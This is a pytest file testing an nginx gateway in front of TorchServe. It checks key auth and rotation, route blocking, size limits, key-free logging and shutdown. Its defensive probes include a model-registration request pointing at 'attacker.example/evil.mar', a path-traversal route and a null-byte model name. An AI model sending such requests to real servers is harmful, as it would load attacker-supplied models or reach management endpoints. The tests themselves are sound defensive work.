"""The pod's front door (deploy/gateway.py: nginx + njs) in front of a real TorchServe."""

from __future__ import annotations

import base64
import json
import signal
import socket
import time

import pytest
import requests

from deploy.client import read_keys
from loadtest.launcher import EntrypointServer, GatewayProcess
from training.catalog import CATALOG

CLIENT_KEYS = ["current-client-key", "next-client-key"]  # two lines: a rotation in progress
MAX_BODY = 64 * 1024
MODEL = next(iter(CATALOG))


@pytest.fixture(scope="module")
def gateway(server, tmp_path_factory):
    with GatewayProcess(tmp_path_factory.mktemp("gateway"), server, CLIENT_KEYS, MAX_BODY).running() as running:
        yield running


def heldout_body(model: str = MODEL) -> bytes:
    return CATALOG[model].heldout_requests(1)[0].body


def send(gateway: GatewayProcess, body: bytes, key: str | None, model: str = MODEL,
         method: str = "POST") -> requests.Response:
    headers = {"Authorization": f"Bearer {key}"} if key is not None else {}
    return requests.request(method, f"{gateway.url}/predictions/{model}", data=body, headers=headers, timeout=30)


@pytest.mark.parametrize("key", CLIENT_KEYS)
@pytest.mark.parametrize("method", ["POST", "PUT"])  # PUT is what `curl -T file` sends
def test_client_key_gets_the_answer_torchserve_gives_directly(gateway, client, key, method):
    for model in CATALOG:
        body = heldout_body(model)
        through_gateway = send(gateway, body, key, model, method)
        assert through_gateway.status_code == 200, through_gateway.text
        assert through_gateway.json() == client.predict(model, data=body).json()


def test_the_open_inference_protocol_passes_with_the_client_key_and_only_with_it(gateway, client):
    body = {"inputs": [{"name": CATALOG[MODEL].handler_class().signature.input.name, "datatype": "BYTES",
                        "shape": [1], "data": [base64.b64encode(CATALOG[MODEL].v2_element(
                            CATALOG[MODEL].heldout_requests(1)[0])).decode()]}]}
    if CATALOG[MODEL].input_kind == "text":
        body["inputs"][0]["parameters"] = {"content_type": "base64"}
    key = {"Authorization": f"Bearer {CLIENT_KEYS[0]}"}
    answer = requests.post(f"{gateway.url}{CATALOG[MODEL].v2_endpoint}", json=body, headers=key, timeout=30)
    assert answer.status_code == 200, answer.text
    direct = requests.post(f"{client.inference_url}{CATALOG[MODEL].v2_endpoint}", json=body,
                           headers=client.auth_headers("inference"), timeout=30)
    assert answer.json() == direct.json()
    for path in ("/v2/health/ready", f"/v2/models/{MODEL}", f"/v2/models/{MODEL}/ready"):
        assert requests.get(gateway.url + path, headers=key, timeout=30).status_code == 200, path
        refused = requests.get(gateway.url + path, timeout=30)
        assert refused.status_code == 401 and "key" in refused.json()["error"], path
    assert requests.post(f"{gateway.url}{CATALOG[MODEL].v2_endpoint}", json=body, timeout=30).status_code == 401


@pytest.mark.parametrize("authorization", [None, "", "Bearer ", "Bearer wrong-key", "Bearer current-client-ke",
                                           "Bearer current-client-key-and-more", "current-client-key",
                                           "Basic current-client-key"])
def test_missing_or_wrong_client_key_is_refused_with_401(gateway, authorization):
    headers = {"Authorization": authorization} if authorization is not None else {}
    response = requests.post(f"{gateway.url}/predictions/{MODEL}", data=heldout_body(), headers=headers, timeout=30)
    assert response.status_code == 401
    assert "key" in response.json()["message"]


def test_torchserves_own_pod_key_is_not_a_client_key(gateway, server):
    pod_key = read_keys(server.key_file)["inference"]
    assert send(gateway, heldout_body(), pod_key).status_code == 401


@pytest.mark.parametrize("method, path", [("GET", "/models"), ("GET", "/models/mnist"),
                                          ("POST", "/models?url=http://attacker.example/evil.mar"),
                                          ("GET", "/metrics"), ("POST", "/token?type=inference"),
                                          ("POST", "/predictions/../models"), ("POST", "/explanations/mnist"),
                                          ("GET", "/api-description"), ("OPTIONS", "/")])
def test_management_and_other_routes_are_never_forwarded(gateway, method, path):
    response = requests.request(method, gateway.url + path, headers={"Authorization": f"Bearer {CLIENT_KEYS[0]}"},
                                timeout=30)
    assert response.status_code == 404
    assert "not served here" in response.json()["message"]


def test_predictions_are_only_sent_with_post_or_put(gateway):
    response = requests.get(f"{gateway.url}/predictions/{MODEL}", headers={"Authorization": f"Bearer {CLIENT_KEYS[0]}"},
                            timeout=30)
    assert response.status_code == 405 and "POST or PUT" in response.json()["message"]


def test_oversized_body_is_refused_with_413_naming_the_limit(gateway):
    response = send(gateway, b"\0" * (MAX_BODY + 1), CLIENT_KEYS[0])
    assert response.status_code == 413
    assert str(MAX_BODY) in response.json()["message"]


def test_malformed_request_gets_a_json_400(gateway):
    response = requests.post(f"{gateway.url}/predictions/mnist%00.mar", data=heldout_body(),
                             headers={"Authorization": f"Bearer {CLIENT_KEYS[0]}"}, timeout=30)
    assert response.status_code == 400 and response.json()["code"] == 400


def test_ping_needs_no_key(gateway):
    response = requests.get(f"{gateway.url}/ping", timeout=30)
    assert response.status_code == 200
    assert response.json()["status"] == "Healthy"


def test_gateway_logs_every_request_but_never_a_key(gateway):
    marker = "/predictions/no-such-model-logged"
    for authorization in [f"Bearer {CLIENT_KEYS[0]}", "Bearer wrong-key"]:
        requests.post(gateway.url + marker, data=heldout_body(), headers={"Authorization": authorization}, timeout=30)
    requests.post(f"{gateway.url}/predictions/{MODEL}?key={CLIENT_KEYS[1]}", data=heldout_body(), timeout=30)
    log = gateway.log_file.read_text()
    assert log.count(f'"POST {marker}"') == 2, log[-2000:]  # one access line per request
    assert not any(key in log for key in [*CLIENT_KEYS, "wrong-key"])


def test_a_refused_request_body_is_never_read_as_the_next_request(gateway):
    body = heldout_body()
    with requests.Session() as session:  # keep-alive: both requests may share one connection
        refused = session.post(f"{gateway.url}/predictions/{MODEL}", data=body,
                               headers={"Authorization": "Bearer wrong-key"}, timeout=30)
        accepted = session.post(f"{gateway.url}/predictions/{MODEL}", data=body,
                                headers={"Authorization": f"Bearer {CLIENT_KEYS[0]}"}, timeout=30)
    assert (refused.status_code, accepted.status_code) == (401, 200), accepted.text


def test_rotating_the_secret_takes_effect_without_a_restart(server, tmp_path):
    with GatewayProcess(tmp_path, server, ["old-key"]).running() as gateway:
        nginx_pid = gateway.process.pid
        assert send(gateway, heldout_body(), "old-key").status_code == 200
        gateway.write_keys(["old-key", "new-key"])  # step 1: both keys while clients move over
        assert [send(gateway, heldout_body(), key).status_code for key in ("old-key", "new-key")] == [200, 200]
        gateway.write_keys(["new-key"])  # step 2: the old key retired
        assert [send(gateway, heldout_body(), key).status_code for key in ("old-key", "new-key")] == [401, 200]
        assert gateway.process.pid == nginx_pid and gateway.process.poll() is None


def test_before_torchserve_wrote_its_keys_503_and_when_it_is_down_502(tmp_path):
    absent = EntrypointServer(tmp_path / "torchserve", tmp_path / "store", [MODEL])  # never started
    with GatewayProcess(tmp_path / "gateway", absent, CLIENT_KEYS).running() as gateway:
        starting = send(gateway, heldout_body(), CLIENT_KEYS[0])
        assert starting.status_code == 503 and "starting" in starting.json()["message"]
        absent.run_dir.mkdir(parents=True)
        absent.key_file.write_text(json.dumps({"inference": {"key": "k"}, "management": {"key": "m"}}))
        down = send(gateway, heldout_body(), CLIENT_KEYS[0])
        assert down.status_code == 502 and "did not answer" in down.json()["message"]


def test_sigterm_lets_the_request_in_flight_finish_then_exits_0(server, tmp_path):
    gateway, body = GatewayProcess(tmp_path, server, CLIENT_KEYS), heldout_body()
    head = (f"POST /predictions/{MODEL} HTTP/1.1\r\nHost: door\r\nAuthorization: Bearer {CLIENT_KEYS[0]}\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
    with gateway.running(), socket.create_connection(("127.0.0.1", gateway.port), timeout=30) as connection:
        connection.sendall(head + body[:10])  # a request half-sent when the stop comes
        time.sleep(0.5)
        gateway.process.send_signal(signal.SIGTERM)
        time.sleep(0.5)
        assert gateway.process.poll() is None and not gateway.accepts_connections()  # draining, no new clients
        connection.sendall(body[10:])
        answer = connection.makefile("rb").read()
        assert answer.startswith(b"HTTP/1.1 200"), answer[:300]
        assert gateway.process.wait(timeout=30) == 0


def test_predictions_past_the_admission_limit_get_503_with_retry_after_at_once(server, tmp_path):
    """Two requests whose bodies never come hold the model's two admissions; the third is refused
    by nginx before TorchServe sees it, another model is still admitted, and a freed slot admits again."""
    other = next(model for model in CATALOG if model != MODEL)
    settings = {"SERVE_GATEWAY_ADMIT_PER_MODEL": "2", "SERVE_GATEWAY_RETRY_AFTER_S": "1"}
    body, other_body = heldout_body(), heldout_body(other)
    with GatewayProcess(tmp_path, server, CLIENT_KEYS, MAX_BODY, settings=settings).running() as door:
        head = (f"POST /predictions/{MODEL} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {CLIENT_KEYS[0]}"
                f"\r\nContent-Length: 1000\r\n\r\n").encode()
        holders = [socket.create_connection(("127.0.0.1", door.port), timeout=10) for _ in range(2)]
        try:
            for holder in holders:
                holder.sendall(head)
            time.sleep(0.5)
            started = time.monotonic()
            refused = send(door, body, CLIENT_KEYS[0])
            refused_after = time.monotonic() - started
            assert send(door, other_body, CLIENT_KEYS[0], other).status_code == 200
        finally:
            for holder in holders:
                holder.close()
        time.sleep(0.5)
        admitted = send(door, body, CLIENT_KEYS[0])
    assert refused.status_code == 503 and refused.headers["Retry-After"] == "1"
    assert "capacity" in refused.json()["message"]
    assert refused_after < 1  # refused at once, not queued
    assert admitted.status_code == 200
